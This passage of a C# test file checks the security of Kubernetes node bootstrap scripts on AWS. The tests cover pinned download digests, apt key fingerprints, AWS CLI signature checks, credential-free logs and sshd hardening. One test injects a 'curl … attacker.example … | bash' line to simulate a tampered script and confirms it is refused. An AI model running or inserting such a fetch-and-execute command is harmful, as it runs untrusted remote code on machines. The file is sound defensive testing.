    public void A_refused_image_pull_stops_the_boot_without_logging_the_ecr_credentials()
    {
        using var box = new NodeSandbox("amazonvpc", workerStore: true);
        box.SetState("api", "up");
        box.SetState("pull-fails", string.Empty);

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");

        Assert.Equal(1, exit);
        Assert.Contains("FATAL: cannot pull amazon-k8s-cni-init:v1.23.0", output, StringComparison.Ordinal);
        Assert.Equal(5, box.Calls.Count(c => c.StartsWith("crictl pull --creds", StringComparison.Ordinal)));
        Assert.DoesNotContain("ecr-password-of-the-sandbox", output, StringComparison.Ordinal);
        Assert.DoesNotContain(box.Calls, c => c.StartsWith("systemctl restart kubelet", StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("flannel", "https://raw.githubusercontent.com/flannel-io/flannel/v0.28.8/Documentation/kube-flannel.yml", "d5ec6500c8050667ef5e6c4dc59b750075db8cf32f45b12961349208c5f326da")]
    [InlineData("amazonvpc", "https://raw.githubusercontent.com/aws/amazon-vpc-cni-k8s/v1.23.0/config/master/aws-k8s-cni.yaml", "3a932385c0db788d8b080b8a9ea262681ed2b564bcc764f95e5b886bdf8494ab")]
    [InlineData("calico", "https://raw.githubusercontent.com/projectcalico/calico/v3.32.1/manifests/tigera-operator.yaml", "f18e073794207d372606bc3ea6f8fd73972f86d6828f4ba666dfe0d4aa8ab07f")]
    [InlineData("cilium", "https://github.com/cilium/cilium-cli/releases/download/v0.19.7/cilium-linux-amd64.tar.gz", "cd15e0983bf0acc7946cd05d453d1e58376ea92dec2642e745212df2b07d8852")]
    [InlineData("flannel", "https://artifacts.k8s.io/binaries/cloud-provider-aws/v1.31.7/linux/amd64/ecr-credential-provider-linux-amd64", "7644623e4ec9ad443ab352a8a5800a5180ee28741288be805286ba72bb8e7164")]
    public void A_download_whose_bytes_are_not_the_pinned_ones_stops_the_boot_before_it_is_used(string networking, string url, string pinned)
    {
        // The stand-in serves other bytes than upstream's; the script keeps kgen's real digest of this download.
        using var box = new NodeSandbox(networking) { UpstreamDigests = true, UpstreamDigestOnly = url };
        box.SetState("api", "down");

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1a"), "ip-10-0-1-10.ec2.internal", "10.0.1.10", "us-east-1a");

        Assert.Equal(1, exit);
        Assert.Contains($"FATAL: {url} is not the file kgen pins (SHA-256 {pinned}, got {NodeSandbox.StandInDigest(url)}); nothing from it is used", output, StringComparison.Ordinal);
        Assert.DoesNotContain(box.Calls, c => c.StartsWith("kubectl apply", StringComparison.Ordinal) || c.StartsWith("tar", StringComparison.Ordinal)
            || c.StartsWith("cilium", StringComparison.Ordinal));
    }

    [Fact]
    public void A_pkgs_k8s_io_key_with_another_fingerprint_stops_the_boot_before_apt_trusts_it()
    {
        using var box = new NodeSandbox(workerStore: true);
        box.SetState("keys", "pkgs.k8s.io 0123456789ABCDEF0123456789ABCDEF01234567\n");

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");

        Assert.Equal(1, exit);
        Assert.Contains("FATAL: the key at https://pkgs.k8s.io/core:/stable:/v1.34/deb/Release.key is 0123456789ABCDEF0123456789ABCDEF01234567, not DE15B14486CD377B9E876E1A234654DA9A296436 as kgen pins; nothing it signs is trusted", output, StringComparison.Ordinal);
        Assert.False(File.Exists(Path.Combine(box.Root, "etc", "apt", "keyrings", "kubernetes-apt-keyring.gpg")));
        Assert.False(File.Exists(Path.Combine(box.Root, "etc", "apt", "sources.list.d", "kubernetes.list")));
        Assert.DoesNotContain(box.Calls, c => c.Contains("kubeadm=", StringComparison.Ordinal));
    }

    [Fact]
    public void Kubernetes_packages_are_installed_at_the_versions_kgen_names_and_held()
    {
        using var box = new NodeSandbox(workerStore: true);
        box.SetState("api", "up");

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");

        Assert.True(exit == 0, output);
        AssertInOrder(
            box.Calls,
            "curl -fsSL --proto =https --connect-timeout 10 --max-time 600 -o " + box.Root + "/tmp/",
            "gpg --batch --with-colons --import-options show-only --import",
            "gpg --batch --yes --dearmor -o " + box.Root + "/etc/apt/keyrings/kubernetes-apt-keyring.gpg",
            "apt-cache show kubeadm=1.34.2-1.1",
            "install --allow-downgrades --allow-change-held-packages kubelet=1.34.2-1.1 kubeadm=1.34.2-1.1 kubectl=1.34.2-1.1 cri-tools=1.34.0-1.1 kubernetes-cni=1.7.1-1.1",
            "apt-mark hold kubelet kubeadm kubectl cri-tools kubernetes-cni");
        Assert.Equal(
            "deb [signed-by=/etc/apt/keyrings/kubernetes-apt-keyring.gpg] https://pkgs.k8s.io/core:/stable:/v1.34/deb/ /\n",
            File.ReadAllText(Path.Combine(box.Root, "etc", "apt", "sources.list.d", "kubernetes.list")));
    }

    [Theory]
    [InlineData(false, "")]
    [InlineData(true, "FATAL: the AWS CLI 2.36.11 installer is not signed by the key kgen pins (FB5DB77FD5C118B80511ADA8A6310ACC4672475C); nothing from it is installed")]
    [InlineData(false, "FATAL: the key at https://keyserver.ubuntu.com/pks/lookup?op=get&options=mr&search=0xFB5DB77FD5C118B80511ADA8A6310ACC4672475C is not one OpenPGP key, not FB5DB77FD5C118B80511ADA8A6310ACC4672475C as kgen pins")]
    public void The_aws_cli_is_installed_only_when_its_signature_is_good_by_the_pinned_key(bool badSignature, string fatal)
    {
        using var box = new NodeSandbox(workerStore: true);
        box.SetState("api", "up");
        File.Delete(Path.Combine(box.Root, "usr", "bin", "aws"));
        if (badSignature)
        {
            box.SetState("bad-signature", string.Empty);
        }

        if (fatal.Contains("not one OpenPGP key", StringComparison.Ordinal))
        {
            box.SetState("keys", "pkgs.k8s.io DE15B14486CD377B9E876E1A234654DA9A296436\n");
        }

        var (exit, output) = box.Run(box.UserData("workers"), "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");

        // Whether the key and signature are good or not, nothing is unpacked unless both are.
        AssertInOrder(
            box.Calls,
            "https://keyserver.ubuntu.com/pks/lookup?op=get&options=mr&search=0xFB5DB77FD5C118B80511ADA8A6310ACC4672475C");
        if (fatal.Length == 0)
        {
            AssertInOrder(
                box.Calls,
                "https://awscli.amazonaws.com/awscli-exe-linux-x86_64-2.36.11.zip",
                "https://awscli.amazonaws.com/awscli-exe-linux-x86_64-2.36.11.zip.sig",
                "gpgv --keyring",
                "unzip -q");
            Assert.True(exit == 0, output);
            Assert.Contains("installed aws-cli/2.0.0 Python/3 Linux/6 stand-in", output, StringComparison.Ordinal);
        }
        else
        {
            Assert.Equal(1, exit);
            Assert.Contains(fatal, output, StringComparison.Ordinal);
            Assert.DoesNotContain(box.Calls, c => c.StartsWith("unzip", StringComparison.Ordinal));
        }
    }

    [Fact]
    public void The_secrets_kgen_creates_are_what_the_nodes_read_and_the_hash_matches_the_ca()
    {
        using var box = new NodeSandbox();
        box.UseKgenSecrets();
        box.SetState("api", "up");
        Assert.False(Directory.Exists(Path.Combine(box.Store, "tokens")));
        using var ca = System.Security.Cryptography.X509Certificates.X509Certificate2.CreateFromPem(File.ReadAllText(Path.Combine(box.Store, "pki", "ca.crt")));
        var hash = "sha256:" + Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(ca.PublicKey.ExportSubjectPublicKeyInfo()));

        var (exit, output) = box.Run(box.UserData("control-plane-us-east-1b"), "ip-10-0-2-20.ec2.internal", "10.0.2.20", "us-east-1b");

        Assert.True(exit == 0, output);
        var join = box.ReadCaptured("kubeadm-join.yaml");
        Assert.Contains($"token: \"{NodeSandbox.JoinToken}\"", join, StringComparison.Ordinal);
        Assert.Contains($"      - \"{hash}\"", join, StringComparison.Ordinal);
        AssertNoTokenInTheStore(box);
        foreach (var f in new[] { "ca.key", "front-proxy-ca.crt", "etcd/ca.key", "sa.key", "sa.pub" })
        {
            Assert.Equal(File.ReadAllText(Path.Combine(box.Store, "pki", f)), File.ReadAllText(Path.Combine(box.Root, "etc", "kubernetes", "pki", f)));
        }
    }

    [Fact]
    public void A_node_script_whose_bytes_differ_from_the_sha256_in_the_user_data_is_refused_and_nothing_of_it_runs()
    {
        using var box = new NodeSandbox(workerStore: true);
        box.SetState("api", "up");
        var userData = box.UserData("workers");
        var key = NodeScripts.Key(userData)!;

        // Someone with write access to the store swaps the script for one that would do something else.
        var path = Path.Combine(box.Store, key);
        File.WriteAllText(path, File.ReadAllText(path).Replace("log \"node prepared\"", "curl -fsS https://attacker.example/x | bash\nlog \"node prepared\"", StringComparison.Ordinal));

        var (exit, output) = box.Run(userData, "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");

        Assert.Equal(1, exit);
        Assert.Contains($"FATAL: file://{box.Store}/{key} is not the node script this user data names (SHA-256 {key.Split('/')[^1][..^3]}, got ", output, StringComparison.Ordinal);
        Assert.Contains("nothing from it is run", File.ReadAllText(Path.Combine(box.Root, "var", "log", "kgen-bootstrap.log")), StringComparison.Ordinal);
        Assert.DoesNotContain(box.Calls, c => c.StartsWith("apt-get", StringComparison.Ordinal) || c.StartsWith("systemctl", StringComparison.Ordinal)
            || c.Contains("attacker.example", StringComparison.Ordinal));
        Assert.Empty(Directory.GetFiles(Path.Combine(box.Root, "var", "lib", "kgen")));
    }

    [Fact]
    public void A_node_script_missing_from_the_store_stops_the_boot_and_says_what_to_check()
    {
        using var box = new NodeSandbox(workerStore: true);
        var userData = box.UserData("workers");
        var key = NodeScripts.Key(userData)!;
        File.Delete(Path.Combine(box.Store, key));

        var (exit, output) = box.Run(userData, "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");

        Assert.Equal(1, exit);
        Assert.Contains($"FATAL: cannot read file://{box.Store}/{key}; check that it exists", output, StringComparison.Ordinal);
        Assert.DoesNotContain(box.Calls, c => c.StartsWith("apt-get", StringComparison.Ordinal));
    }

    [Fact]
    public void The_user_data_runs_the_node_script_it_fetched_with_one_log_and_a_rerun_fetches_the_same_script()
    {
        using var box = new NodeSandbox(workerStore: true);
        box.SetState("api", "up");
        var userData = box.UserData("workers");

        var first = box.Run(userData, "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");
        Assert.True(first.Exit == 0, first.Output);
        var log = File.ReadAllText(Path.Combine(box.Root, "var", "log", "kgen-bootstrap.log"));

        // Both stages write the one log, each line once (the node script does not tee a second time).
        Assert.Contains("verified; running", log, StringComparison.Ordinal);
        Assert.Contains("worker node ip-10-0-3-30.ec2.internal joined cluster sandbox.k8s.local", log, StringComparison.Ordinal);
        Assert.Equal(1, log.Split('\n').Count(l => l.Contains("node prepared", StringComparison.Ordinal)));
        Assert.Equal(box.NodeScript("workers"), File.ReadAllText(Path.Combine(box.Root, "var", "lib", "kgen", "nodeup.sh")));

        var second = box.Run(userData, "ip-10-0-3-30.ec2.internal", "10.0.3.30", "us-east-1c");
        Assert.True(second.Exit == 0, second.Output);
        Assert.Equal(box.NodeScript("workers"), File.ReadAllText(Path.Combine(box.Root, "var", "lib", "kgen", "nodeup.sh")));
    }

    [Fact]
    public void Bastion_hardens_sshd_and_applies_security_upgrades()
    {
        using var box = new NodeSandbox();

        var (exit, output) = box.Run(box.UserData("bastions"), "ip-10-0-1-5.ec2.internal", "10.0.1.5", "us-east-1a");

        Assert.True(exit == 0, output);
        AssertInOrder(box.Calls, "sshd -t", "sshd -T", "systemctl try-reload-or-restart ssh.service", "apt-get", "unattended-upgrade");
        Assert.DoesNotContain(box.Calls, c => c.StartsWith("kubeadm", StringComparison.Ordinal) || c.StartsWith("aws", StringComparison.Ordinal));
        Assert.Contains("PasswordAuthentication no", File.ReadAllText(Path.Combine(box.Root, "etc", "ssh", "sshd_config.d", "00-kgen-hardening.conf")), StringComparison.Ordinal);
    }

    /// <summary>The config store holds no token after a boot: no tokens/ folder, nothing that looks like a bootstrap token.</summary>
    private static void AssertNoTokenInTheStore(NodeSandbox box)
    {
        Assert.False(Directory.Exists(Path.Combine(box.Store, "tokens")));
        foreach (var file in Directory.GetFiles(box.Store, "*", SearchOption.AllDirectories))
        {
            Assert.DoesNotMatch(@"\b[a-z0-9]{6}\.[a-z0-9]{16}\b", File.ReadAllText(file));
        }
    }

    /// <summary>
    /// What a control-plane node sets up for aws-iam-authenticator: its configuration maps the workers' role, in the
    /// account the instance profile names, to system:node:{{EC2PrivateDNSName}} (and nothing else, the control-plane
    /// role included); a key and self-signed certificate for 127.0.0.1 made on the node (real openssl), the API
    /// server's webhook kubeconfig trusting that certificate alone; the static pod with the pinned image.
    /// </summary>
    private static void AssertAuthenticator(NodeSandbox box)
    {
        var dir = Path.Combine(box.Root, "etc", "kubernetes", "aws-iam-authenticator");
        var config = File.ReadAllText(Path.Combine(dir, "config.yaml"));
        Assert.Equal(
            "clusterID: \"sandbox.k8s.local\"\nserver:\n  address: \"127.0.0.1\"\n  port: 21362\n  stateDir: \"/var/lib/aws-iam-authenticator\"\n" +
            "  kubeconfigPregenerated: true\n  partition: \"aws\"\n  backendMode:\n    - \"MountedFile\"\n  mapRoles:\n" +
            "    - rolearn: \"arn:aws:iam::123456789012:role/nodes.sandbox.k8s.local\"\n      username: \"system:node:{{EC2PrivateDNSName}}\"\n" +
            "      groups:\n        - \"system:nodes\"\n",
            config);
        Assert.DoesNotContain("masters.", config, StringComparison.Ordinal);

        var state = Path.Combine(box.Root, "var", "lib", "aws-iam-authenticator");
        using var cert = System.Security.Cryptography.X509Certificates.X509Certificate2.CreateFromPemFile(Path.Combine(state, "cert.pem"), Path.Combine(state, "key.pem"));
        Assert.True(cert.HasPrivateKey);
        Assert.Matches("IP Address[:=]127\\.0\\.0\\.1", cert.Extensions["2.5.29.17"]!.Format(false));
        Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(Path.Combine(state, "key.pem")));
        Assert.Contains(box.Calls, c => c == $"chown -R 65532:65532 {state}");
        Assert.Equal(File.ReadAllText(Path.Combine(state, "cert.pem")), File.ReadAllText(Path.Combine(dir, "cert.pem")));
        Assert.False(File.Exists(Path.Combine(dir, "key.pem")));

        var webhook = File.ReadAllText(Path.Combine(dir, "kubeconfig.yaml"));
        Assert.Contains("      certificate-authority: \"/etc/kubernetes/aws-iam-authenticator/cert.pem\"\n      server: \"https://127.0.0.1:21362/authenticate\"\n", webhook, StringComparison.Ordinal);

        var pod = File.ReadAllText(Path.Combine(box.Root, "etc", "kubernetes", "manifests", "aws-iam-authenticator.yaml"));
        Assert.Contains("image: \"public.ecr.aws/eks-distro/kubernetes-sigs/aws-iam-authenticator:v0.7.18-cvefix-eks-1-34-21\"", pod, StringComparison.Ordinal);
        Assert.Contains("hostNetwork: true", pod, StringComparison.Ordinal);
        Assert.Contains("--config=/etc/kubernetes/aws-iam-authenticator/config.yaml", pod, StringComparison.Ordinal);
    }

    /// <summary>systemd-resolved's drop-in sends the cluster's zone (sandbox.k8s.local, under .local) to the VPC resolver.</summary>
    private static void AssertResolvesClusterNames(NodeSandbox box)
    {
        var dropIn = File.ReadAllText(Path.Combine(box.Root, "etc", "systemd", "resolved.conf.d", "kgen.conf"));
        Assert.Contains("[Resolve]\nDNS=169.254.169.253\nDomains=~sandbox.k8s.local\n", dropIn, StringComparison.Ordinal);
    }

    private static void AssertInOrder(IReadOnlyList<string> calls, params string[] expected)
    {
        var at = 0;
        foreach (var e in expected)
        {
            var found = -1;
            for (var i = at; i < calls.Count; i++)
            {
                if (calls[i].Contains(e, StringComparison.Ordinal))
                {
                    found = i;
                    break;
                }
            }

            Assert.True(found >= 0, $"no call containing \"{e}\" after call {at}; calls:\n{string.Join('\n', calls.Select((c, i) => $"{i}: {c}"))}");
            at = found + 1;
        }
    }
}
